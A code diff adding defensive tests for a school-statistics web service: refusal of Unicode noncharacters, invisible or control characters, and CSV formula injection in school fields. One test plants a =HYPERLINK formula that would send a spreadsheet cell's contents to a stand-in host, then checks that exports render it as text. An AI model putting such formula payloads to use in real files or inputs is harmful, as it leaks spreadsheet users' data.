@@ -7,7 +7,10 @@
 
 #include <nlohmann/json.hpp>
 
+#include "sheets/sheet.hpp"
+#include "store/sql_store.hpp"
 #include "tests/support/databases.hpp"
+#include "tests/support/fixtures.hpp"
 #include "tests/support/khet_process.hpp"
 #include "tests/support/temp_dir.hpp"
 
@@ -90,6 +93,48 @@ class HostileInput : public ::testing::TestWithParam<std::string> {
         return Send(SessionRequest(session, method, target, body, true));
     }
 
+    // The school of the demo's school officer, and that account's login.
+    std::string OfficerSchool() {
+        const auto parsed = Json::parse(ReadText(Demo().folder->File("accounts.json")));
+        for (const Json& account : parsed["accounts"]) {
+            if (account["role"] == "school_officer") return account["school"];
+        }
+        ADD_FAILURE() << "no school officer among the demo accounts";
+        return "";
+    }
+
+    Json School(const HttpSession& session, const std::string& code) {
+        const HttpReply reply = Call(session, "GET", "/api/v1/schools/" + code);
+        EXPECT_EQ(reply.status, 200) << reply.body;
+        return Json::parse(reply.body, nullptr, false)["school"];
+    }
+
+    // PUT /api/v1/schools/{code} with the school as it is but for `changes`.
+    HttpReply EditSchool(const HttpSession& session, const std::string& code, const Json& changes) {
+        const Json school = School(session, code);
+        Json body = {{"version", school["version"]},
+                     {"name", school["name"]},
+                     {"district", school["district"]},
+                     {"zone_code", school["zone_code"]},
+                     {"level_span", school["level_span"]}};
+        body.update(changes);
+        return Call(session, "PUT", "/api/v1/schools/" + code, body.dump());
+    }
+
+    // Writes the school's district straight to the store, as a value stored before the input
+    // hygiene existed (or by another program) would be.
+    void PoisonDistrict(const std::string& code, const std::string& district) {
+        auto connection = store::Connect(Demo().database);
+        ASSERT_TRUE(connection) << Describe(connection.error());
+        store::SqlStore store(std::move(*connection));
+        auto school = store.FindSchool(code);
+        ASSERT_TRUE(school) << Describe(school.error());
+        const long long version = school->version;
+        school->district = district;
+        auto saved = store.UpdateSchool(*school, version, TestAudit("school.update"));
+        ASSERT_TRUE(saved) << Describe(saved.error());
+    }
+
     static Json ErrorOf(const HttpReply& reply) {
         Json body = Json::parse(reply.body, nullptr, false);
         EXPECT_FALSE(body.is_discarded()) << reply.body;
@@ -128,6 +173,105 @@ TEST_P(HostileInput, AnAliasBombIsRefusedAtItsFirstAlias) {
     EXPECT_EQ(reply.status, 400) << reply.body;
     EXPECT_THAT(ErrorOf(reply)["message"].get<std::string>(), HasSubstr("การอ้างถึงของ YAML"));
     EXPECT_TRUE(Demo().Alive());
+}
+
+// Probe 6: a district ending in U+FFFF made tables 1 and 3 answer 500 for everyone, their XLSX
+// malformed, and the audit PDF stayed broken after the district was put right.
+TEST_P(HostileInput, NoncharactersAreRefusedAndAValueStoredBeforeStillPrints) {
+    const std::string code = OfficerSchool();
+    const HttpSession officer = SignIn("school." + code);
+    const std::string district = School(officer, code)["district"];
+    const HttpReply refused = EditSchool(officer, code, {{"district", district + "\uFFFF"}});
+    EXPECT_EQ(refused.status, 400) << refused.body;
+    EXPECT_EQ(ErrorOf(refused)["fields"][0]["field"], "district");
+    EXPECT_THAT(ErrorOf(refused)["fields"][0]["message"].get<std::string>(), HasSubstr("U+FFFF"));
+
+    // PostgreSQL refuses bytes that are not UTF-8 and NUL in text; SQLite stores them all.
+    const bool sqlite = GetParam() == "sqlite";
+    PoisonDistrict(code, district + "\uFFFF\x01" +
+                             (sqlite ? "\xC3\x28" + std::string(1, '\0') : std::string()));
+    const std::string printed = district + "\uFFFD\uFFFD" + (sqlite ? "\uFFFD(\uFFFD" : "");
+    const HttpSession admin = SignIn("admin.2402");
+    for (const std::string table : {"table1", "table3"}) {
+        const std::string target = "/api/v1/offices/2402/statistics/" + table + "?format=";
+        const HttpReply pdf = Call(admin, "GET", target + "pdf");
+        EXPECT_EQ(pdf.status, 200) << table << ": " << pdf.body;
+        EXPECT_TRUE(pdf.body.starts_with("%PDF-")) << table;
+        const HttpReply xlsx = Call(admin, "GET", target + "xlsx");
+        ASSERT_EQ(xlsx.status, 200) << table << ": " << xlsx.body;
+        auto sheet = sheets::ReadXlsx(xlsx.body, table + ".xlsx");
+        EXPECT_TRUE(sheet) << table << ": " << Describe(sheet.error());
+        const HttpReply csv = Call(admin, "GET", target + "csv");
+        ASSERT_EQ(csv.status, 200) << table;
+        auto rows = sheets::ReadCsv(csv.body, table + ".csv");
+        ASSERT_TRUE(rows) << table << ": " << Describe(rows.error());
+        EXPECT_THAT(csv.body, HasSubstr(printed)) << table;
+        EXPECT_EQ(Call(admin, "GET", "/api/v1/offices/2402/statistics/" + table).status, 200);
+    }
+    // Put right through the API; the audit keeps the poisoned value and still prints.
+    const HttpReply restored = EditSchool(admin, code, {{"district", district}});
+    EXPECT_EQ(restored.status, 200) << restored.body;
+    for (const std::string format : {"pdf", "xlsx", "csv"}) {
+        const HttpReply audit =
+            Call(admin, "GET", "/api/v1/offices/2402/audit?entity=school&format=" + format);
+        EXPECT_EQ(audit.status, 200) << format << ": " << audit.body;
+    }
+    EXPECT_EQ(Call(admin, "GET", "/api/v1/offices/2402/audit?entity=school").status, 200);
+}
+
+// Probe 7: a district written as a formula reached every CSV download as a live formula.
+TEST_P(HostileInput, CsvDownloadsCarryFormulasAsText) {
+    const std::string code = OfficerSchool();
+    const HttpSession admin = SignIn("admin.2402");
+    const std::string district = School(admin, code)["district"];
+    const std::string formula = "=HYPERLINK(\"http://x.example/?\"&B3,\"ดู\")";
+    ASSERT_EQ(EditSchool(admin, code, {{"district", formula}}).status, 200);
+    for (const std::string target : {"/api/v1/offices/2402/statistics/table1?format=csv",
+                                     "/api/v1/offices/2402/statistics/table3?format=csv",
+                                     "/api/v1/offices/2402/audit?entity=school&format=csv"}) {
+        const HttpReply csv = Call(admin, "GET", target);
+        ASSERT_EQ(csv.status, 200) << target;
+        auto sheet = sheets::ReadCsv(csv.body, "x.csv");
+        ASSERT_TRUE(sheet) << Describe(sheet.error());
+        bool found = false;
+        for (const auto& row : sheet->rows) {
+            for (const std::string& cell : row.cells) {
+                EXPECT_FALSE(cell.starts_with("=") || cell.starts_with("+") ||
+                             cell.starts_with("@"))
+                    << target << ": " << cell;
+                // Tables show the district in a cell of its own; the audit inside its JSON.
+                found = found || cell.starts_with("'=HYPERLINK") ||
+                        cell.find("\"=HYPERLINK(") != std::string::npos;
+            }
+        }
+        EXPECT_TRUE(found) << target << " lost the district:\n" << csv.body;
+    }
+    ASSERT_EQ(EditSchool(admin, code, {{"district", district}}).status, 200);
+}
+
+// Probe 9: names made only of invisible characters, and control characters in one-line fields.
+TEST_P(HostileInput, BlankLookingTextAndControlCharactersAreRefusedOrMadeOneLine) {
+    const std::string code = OfficerSchool();
+    const HttpSession admin = SignIn("admin.2402");
+    const Json before = School(admin, code);
+    for (const std::string blank : {"\u200B\u200B", "\u00A0", "\uFEFF", "\u200C\u200D"}) {
+        const HttpReply reply = EditSchool(admin, code, {{"name", blank}});
+        EXPECT_EQ(reply.status, 400) << reply.body;
+        EXPECT_EQ(ErrorOf(reply)["fields"][0]["field"], "name");
+    }
+    const HttpReply nul =
+        EditSchool(admin, code, {{"district", std::string("บาง") + '\0' + "คล้า"}});
+    EXPECT_EQ(nul.status, 400) << nul.body;
+    EXPECT_THAT(ErrorOf(nul)["fields"][0]["message"].get<std::string>(), HasSubstr("U+0000"));
+    const HttpReply spaced = EditSchool(
+        admin, code, {{"name", "\u200Bโรงเรียน\tทดสอบ\u2028ใหม่ "}, {"district", "บาง\nคล้า"}});
+    ASSERT_EQ(spaced.status, 200) << spaced.body;
+    const Json saved = Json::parse(spaced.body)["school"];
+    EXPECT_EQ(saved["name"], "โรงเรียน ทดสอบ ใหม่");
+    EXPECT_EQ(saved["district"], "บาง คล้า");
+    ASSERT_EQ(EditSchool(admin, code, {{"name", before["name"]}, {"district", before["district"]}})
+                  .status,
+              200);
 }
 
 INSTANTIATE_TEST_SUITE_P(Engines, HostileInput, ::testing::ValuesIn(kEngines));
